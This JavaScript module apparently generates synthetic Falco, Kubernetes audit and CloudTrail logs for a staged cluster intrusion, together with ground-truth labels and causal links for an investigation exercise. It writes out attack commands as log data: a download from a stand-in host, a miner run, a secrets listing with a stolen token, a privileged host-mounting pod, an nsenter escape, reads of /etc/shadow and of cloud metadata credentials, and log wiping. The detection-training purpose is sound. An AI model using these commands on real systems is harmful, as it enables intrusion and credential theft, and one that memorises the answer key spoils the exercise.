import { ACCOUNT, ATTACKER_IP, DROP_HOST, NODES, PODS, POOL_IP } from './cast.mjs';
import { serviceAccount } from './audit.mjs';
import { at } from './clock.mjs';
import { processFields } from './falco.mjs';

/**
 * The intrusion, act by act. `log` says which file records it; `title`, `technique` and `note` are the ground truth.
 *
 * @param {{ audit: import('./audit.mjs').AuditWriter, falco: typeof import('./falco.mjs').falcoLine, trail: import('./cloudtrail.mjs').CloudTrailWriter }} writers
 */
export function attackActs({ audit, falco, trail }) {
  const { storefront, payments, intruder } = PODS;
  const token = serviceAccount(storefront, NODES.a.name);
  const curl = 'curl/8.5.0';
  const nodeCredentials = (time) => trail.nodeRole(NODES.b.instance, time);
  const alert = (node, time, alertFields) => ({ log: `falco-${node}`, time: at(time), line: falco(at(time), { node: NODES[node].name, ...alertFields }) });
  const api = (time, call) => ({ log: 'audit', time: at(time), line: JSON.stringify(audit.event(at(time), { user: token, ips: [storefront.ip], agent: curl, ...call })) });
  const cloud = (time, call) => ({ log: 'trail', time: at(time), record: trail.record(at(time), { identity: nodeCredentials(at('08:41:07')), ip: ATTACKER_IP, agent: 'aws-cli/2.27.41 md/awscrt#0.26.1 ua/2.1 os/linux#6.8.0 md/arch#x86_64 lang/python#3.13.4 cfg/retry-mode#standard', readOnly: true, ...call }) });
  const privilegedPod = {
    apiVersion: 'v1',
    kind: 'Pod',
    metadata: { name: intruder.name, namespace: 'shop', labels: { app: 'node-health-check' } },
    spec: {
      nodeName: NODES.b.name,
      hostPID: true,
      hostNetwork: true,
      containers: [
        { name: 'check', image: 'docker.io/library/alpine:3.20', command: ['sleep', '86400'], securityContext: { privileged: true }, volumeMounts: [{ name: 'host', mountPath: '/host' }] },
      ],
      volumes: [{ name: 'host', hostPath: { path: '/', type: 'Directory' } }],
      serviceAccountName: 'default',
    },
  };
  return [
    {
      id: 'shell',
      title: 'Web server starts a shell',
      technique: 'T1190',
      tactic: 'initial-access',
      note: 'The node process that serves the shop started sh with a command read from a request. The request itself is in none of the logs.',
      kind: 'inference',
      step: true,
      ...alert('a', '09:02:11.482913077', { rule: 'Run shell untrusted', priority: 'Notice', tags: ['maturity_stable', 'container', 'process', 'shell', 'mitre_execution', 'T1059.004'], text: 'Shell spawned by untrusted binary', fields: { ...processFields({ name: 'sh', exe: '/bin/busybox', cmdline: 'sh -c id;uname -a', pid: 48211, parent: 'node', user: 'node', uid: 1000 }) }, pod: storefront }),
    },
    {
      id: 'download',
      title: 'Second stage is downloaded',
      technique: 'T1105',
      tactic: 'command-and-control',
      note: `curl fetches a script from ${DROP_HOST}.`,
      kind: 'fact',
      ...alert('a', '09:03:02.117504921', { rule: 'Launch Ingress Remote File Copy Tools in Container', priority: 'Notice', tags: ['maturity_sandbox', 'container', 'network', 'process', 'mitre_command_and_control', 'T1105'], text: 'Ingress remote file copy tool launched in container', fields: { ...processFields({ name: 'curl', cmdline: `curl -fsSL http://${DROP_HOST}/x.sh -o /tmp/.x/x.sh`, pid: 48230, parent: 'sh', user: 'node', uid: 1000 }) }, pod: storefront }),
    },
    {
      id: 'drop',
      title: 'Dropped miner is executed',
      technique: 'T1496',
      tactic: 'impact',
      note: 'A file that is not part of the image (upper layer) is executed under the name of a kernel thread.',
      kind: 'inference',
      step: true,
      ...alert('a', '09:03:40.903311846', { rule: 'Drop and execute new binary in container', priority: 'Critical', tags: ['maturity_stable', 'container', 'process', 'mitre_persistence', 'TA0003', 'PCI_DSS_11.5.1'], text: 'Executing binary not part of base image', fields: { ...processFields({ name: 'kdevtmpfsi', exe: '/tmp/.x/kdevtmpfsi', cmdline: `kdevtmpfsi -o ${POOL_IP}:3333 -u 4AdUndXHHZ --tls`, pid: 48255, parent: 'sh', user: 'node', uid: 1000 }), 'proc.is_exe_upper_layer': true }, pod: storefront }),
    },
    {
      id: 'pool',
      title: 'Connection to a mining pool port',
      technique: 'T1496',
      tactic: 'impact',
      note: 'Destination port 3333 is one of the usual pool ports; what was sent is not recorded.',
      kind: 'fact',
      ...alert('a', '09:03:41.220087315', { rule: 'Detect outbound connections to common miner pool ports', priority: 'Critical', tags: ['maturity_sandbox', 'host', 'container', 'network', 'mitre_impact', 'T1496'], text: 'Outbound connection to IP/Port flagged by https://cryptoioc.ch', fields: { ...processFields({ name: 'kdevtmpfsi', exe: '/tmp/.x/kdevtmpfsi', cmdline: `kdevtmpfsi -o ${POOL_IP}:3333 -u 4AdUndXHHZ --tls`, pid: 48255, parent: 'sh', user: 'node', uid: 1000 }), 'evt.type': 'connect', 'fd.name': `${storefront.ip}:41822->${POOL_IP}:3333`, 'fd.rip': POOL_IP, 'fd.rport': 3333, 'fd.lip': storefront.ip, 'fd.l4proto': 'tcp' }, pod: storefront }),
    },
    {
      id: 'apiserver',
      title: 'Process in the pod reaches the API server',
      technique: 'T1528',
      tactic: 'credential-access',
      note: 'curl, not the application, opens a connection to the API server.',
      kind: 'fact',
      ...alert('a', '09:06:18.750291660', { rule: 'Contact K8S API Server From Container', priority: 'Notice', tags: ['maturity_stable', 'container', 'network', 'k8s', 'mitre_discovery', 'T1565'], text: 'Unexpected connection to K8s API Server from container', fields: { ...processFields({ name: 'curl', cmdline: 'curl -sk -H @/tmp/.x/h https://10.100.0.1/api/v1/namespaces/kube-system/secrets', pid: 48302, parent: 'sh', user: 'node', uid: 1000 }), 'evt.type': 'connect', 'fd.name': `${storefront.ip}:50914->10.100.0.1:443`, 'fd.rip': '10.100.0.1', 'fd.rport': 443, 'fd.l4proto': 'tcp' }, pod: storefront }),
    },
    {
      id: 'denied',
      title: 'Token is tried on kube-system secrets and refused',
      technique: 'T1552.007',
      tactic: 'credential-access',
      note: 'Attempt stopped by authorisation.',
      kind: 'fact',
      ...api('09:06:18.802113', { verb: 'list', uri: '/api/v1/namespaces/kube-system/secrets', object: { resource: 'secrets', namespace: 'kube-system', apiVersion: 'v1' }, code: 403, message: 'secrets is forbidden: User "system:serviceaccount:shop:storefront" cannot list resource "secrets" in API group "" in the namespace "kube-system"' }),
    },
    {
      id: 'secrets',
      title: "Pod's service-account token lists the shop's secrets",
      technique: 'T1552.007',
      tactic: 'credential-access',
      note: "The storefront's token is used with curl from the pod's address; the application itself uses another client.",
      kind: 'inference',
      step: true,
      ...api('09:06:44.019377', { verb: 'list', uri: '/api/v1/namespaces/shop/secrets', object: { resource: 'secrets', namespace: 'shop', apiVersion: 'v1' }, code: 200, reason: 'RBAC: allowed by RoleBinding "storefront-admin/shop" of Role "admin" to ServiceAccount "storefront/shop"' }),
    },
    {
      id: 'exec',
      title: 'Exec into the payments pod',
      technique: 'T1609',
      tactic: 'execution',
      note: 'Code 101: a session was opened. What ran is seen by the sensor on the other node.',
      kind: 'fact',
      step: true,
      ...api('09:11:05.330918', { verb: 'create', uri: `/api/v1/namespaces/shop/pods/${payments.name}/exec?command=sh&command=-c&command=env%3Bcat+%2Fetc%2Fpayments%2Fdb.conf&container=payments&stdin=true&stdout=true&tty=true`, object: { resource: 'pods', namespace: 'shop', name: payments.name, apiVersion: 'v1', subresource: 'exec' }, code: 101, reason: 'RBAC: allowed by RoleBinding "storefront-admin/shop" of Role "admin" to ServiceAccount "storefront/shop"' }),
    },
    {
      id: 'exec-seen',
      title: 'Shell with terminal in the payments container',
      technique: 'T1609',
      tactic: 'execution',
      note: 'The same act as seen inside the container.',
      kind: 'fact',
      ...alert('b', '09:11:05.412650338', { rule: 'Terminal shell in container', priority: 'Notice', tags: ['maturity_stable', 'container', 'shell', 'mitre_execution', 'T1059'], text: 'A shell was spawned in a container with an attached terminal', fields: { ...processFields({ name: 'sh', exe: '/bin/dash', cmdline: 'sh -c env;cat /etc/payments/db.conf', pid: 77120, parent: 'containerd-shim', tty: 34816 }) }, pod: payments }),
    },
    {
      id: 'pod',
      title: 'Privileged pod is created on the other node',
      technique: 'T1610',
      tactic: 'execution',
      note: 'The pod asks for privileged mode, the host PID and network namespaces and mounts the host root.',
      kind: 'fact',
      step: true,
      ...api('09:18:27.604481', { verb: 'create', uri: '/api/v1/namespaces/shop/pods', object: { resource: 'pods', namespace: 'shop', name: intruder.name, apiVersion: 'v1' }, code: 201, level: 'RequestResponse', request: privilegedPod, response: { ...privilegedPod, metadata: { ...privilegedPod.metadata, uid: '8c2f7a51-0d3e-4b96-a7f4-1e5d90c3b862' }, status: { phase: 'Pending' } }, tookMs: 21, reason: 'RBAC: allowed by RoleBinding "storefront-admin/shop" of Role "admin" to ServiceAccount "storefront/shop"' }),
    },
    {
      id: 'pod-seen',
      title: 'Privileged container starts',
      technique: 'T1610',
      tactic: 'execution',
      note: 'The sensor of node B sees the container start.',
      kind: 'fact',
      ...alert('b', '09:18:31.055912704', { rule: 'Launch Privileged Container', priority: 'Informational', tags: ['maturity_incubating', 'container', 'cis', 'mitre_execution', 'T1610', 'PCI_DSS_10.2.5'], text: 'Privileged container started', fields: { ...processFields({ name: 'sleep', exe: '/bin/busybox', cmdline: 'sleep 86400', pid: 77310, parent: 'containerd-shim' }), 'evt.type': 'container' }, pod: intruder }),
    },
    {
      id: 'escape',
      title: 'Escape: the container enters the namespaces of the host',
      technique: 'T1611',
      tactic: 'privilege-escalation',
      note: 'nsenter into the namespaces of process 1 of the node.',
      kind: 'inference',
      step: true,
      ...alert('b', '09:19:02.668430219', { rule: 'Change thread namespace', priority: 'Notice', tags: ['maturity_deprecated', 'host', 'container', 'process', 'mitre_privilege_escalation', 'T1611'], text: 'Namespace change (setns) by unexpected program', fields: { ...processFields({ name: 'nsenter', exe: '/bin/busybox', cmdline: 'nsenter -t 1 -m -u -n -i -p sh', pid: 77342, parent: 'sh', tty: 34817 }), 'evt.type': 'setns' }, pod: intruder }),
    },
    {
      id: 'shadow',
      title: 'Host password file is read on the node',
      technique: 'T1003.008',
      tactic: 'credential-access',
      note: 'Outside any container.',
      kind: 'fact',
      ...alert('b', '09:19:40.310774852', { rule: 'Read sensitive file untrusted', priority: 'Warning', tags: ['maturity_stable', 'host', 'container', 'filesystem', 'mitre_credential_access', 'T1555'], text: 'Sensitive file opened for reading by non-trusted program', fields: { ...processFields({ name: 'cat', exe: '/usr/bin/cat', cmdline: 'cat /etc/shadow', pid: 77360, parent: 'sh', tty: 34817 }), 'evt.type': 'openat', 'fd.name': '/etc/shadow' }, pod: null }),
    },
    {
      id: 'metadata',
      title: 'Cloud credentials are fetched from the metadata service',
      technique: 'T1552.005',
      tactic: 'credential-access',
      note: 'The request goes out on the network of the node from the privileged pod.',
      kind: 'inference',
      step: true,
      ...alert('b', '09:24:13.901126473', { rule: 'Contact EC2 Instance Metadata Service From Container', priority: 'Notice', tags: ['maturity_sandbox', 'network', 'aws', 'container', 'mitre_credential_access', 'T1552.005'], text: 'Outbound connection to EC2 instance metadata service', fields: { ...processFields({ name: 'wget', exe: '/bin/busybox', cmdline: 'wget -qO- http://169.254.169.254/latest/meta-data/iam/security-credentials/shop-prod-node', pid: 77402, parent: 'sh', tty: 34817 }), 'evt.type': 'connect', 'fd.name': `${NODES.b.ip}:38214->169.254.169.254:80`, 'fd.rip': '169.254.169.254', 'fd.rport': 80, 'fd.l4proto': 'tcp' }, pod: intruder }),
    },
    {
      id: 'caller',
      title: "Node's credentials are used from outside",
      technique: 'T1078.004',
      tactic: 'initial-access',
      note: "The session of node B's role is used from an address outside the account's network. The credential was used; by whom is not recorded.",
      kind: 'inference',
      step: true,
      ...cloud('09:31:52', { source: 'sts', name: 'GetCallerIdentity' }),
    },
    {
      id: 'buckets',
      title: 'Buckets are listed',
      technique: 'T1619',
      tactic: 'discovery',
      note: 'Discovery with the same session.',
      kind: 'fact',
      ...cloud('09:32:20', { source: 's3', name: 'ListBuckets', request: { Host: 's3.eu-central-1.amazonaws.com' } }),
    },
    {
      id: 'key-denied',
      title: 'Creation of an access key is refused',
      technique: 'T1098.001',
      tactic: 'persistence',
      note: 'Attempt stopped by policy.',
      kind: 'fact',
      ...cloud('09:33:05', { source: 'iam', name: 'CreateAccessKey', readOnly: false, request: { userName: 'deploy' }, error: 'AccessDenied', message: `User: arn:aws:sts::${ACCOUNT}:assumed-role/shop-prod-node/${NODES.b.instance} is not authorized to perform: iam:CreateAccessKey on resource: user deploy because no identity-based policy allows the iam:CreateAccessKey action` }),
    },
    ...['customers/2026-09.csv', 'customers/2026-10.csv'].map((key, index) => ({
      id: `object-${index + 1}`,
      title: `Customer file is read (${key})`,
      technique: 'T1530',
      tactic: 'collection',
      note: 'Data event: the object was served.',
      kind: 'fact',
      step: index === 0,
      ...cloud(index === 0 ? '09:35:41' : '09:36:02', { source: 's3', name: 'GetObject', category: 'Data', request: { bucketName: 'shop-prod-exports', Host: 'shop-prod-exports.s3.eu-central-1.amazonaws.com', key }, resources: [{ type: 'AWS::S3::Object', ARN: `arn:aws:s3:::shop-prod-exports/${key}` }, { accountId: ACCOUNT, type: 'AWS::S3::Bucket', ARN: 'arn:aws:s3:::shop-prod-exports' }] }),
    })),
    {
      id: 'cleanup',
      title: 'Logs on the node are cleared',
      technique: 'T1070.002',
      tactic: 'defense-evasion',
      note: 'A log file of the node is emptied.',
      kind: 'fact',
      ...alert('b', '09:41:16.224908133', { rule: 'Clear Log Activities', priority: 'Warning', tags: ['maturity_stable', 'host', 'container', 'filesystem', 'mitre_defense_evasion', 'T1070', 'NIST_800-53_AU-10'], text: 'Log files were tampered', fields: { ...processFields({ name: 'sh', exe: '/usr/bin/dash', cmdline: 'sh', pid: 77345, parent: 'nsenter', tty: 34817 }), 'evt.type': 'openat', 'fd.name': '/var/log/auth.log' }, pod: null }),
    },
    {
      id: 'delete',
      title: 'Privileged pod is deleted',
      technique: 'T1070',
      tactic: 'defense-evasion',
      note: 'After this the container and its file system are gone.',
      kind: 'fact',
      ...api('09:42:03.118840', { verb: 'delete', uri: `/api/v1/namespaces/shop/pods/${intruder.name}`, object: { resource: 'pods', namespace: 'shop', name: intruder.name, apiVersion: 'v1' }, code: 200, reason: 'RBAC: allowed by RoleBinding "storefront-admin/shop" of Role "admin" to ServiceAccount "storefront/shop"' }),
    },
  ];
}

/** Links of the ground truth: cause, effect, why, and the acts whose records support it. */
export const LINKS = [
  ['shell', 'drop', 'The shell of the web server is an ancestor of the dropped program: same container, parent sh.', ['download', 'drop']],
  ['shell', 'secrets', 'The token belongs to the pod in which the shell runs and is used from its address seconds after curl connects to the API server.', ['apiserver', 'secrets']],
  ['secrets', 'exec', 'The same service account opens the session, from the same address and client.', ['secrets', 'exec']],
  ['secrets', 'pod', 'The same service account creates the pod.', ['secrets', 'pod']],
  ['pod', 'escape', 'nsenter runs in the container of that pod.', ['pod-seen', 'escape']],
  ['escape', 'metadata', 'Same container, same terminal.', ['escape', 'metadata']],
  ['metadata', 'caller', "The credentials' session is that of the node's role; first use from outside follows the request to the metadata service.", ['metadata', 'caller']],
  ['caller', 'object-1', 'Same access key and address.', ['caller', 'object-1']],
];
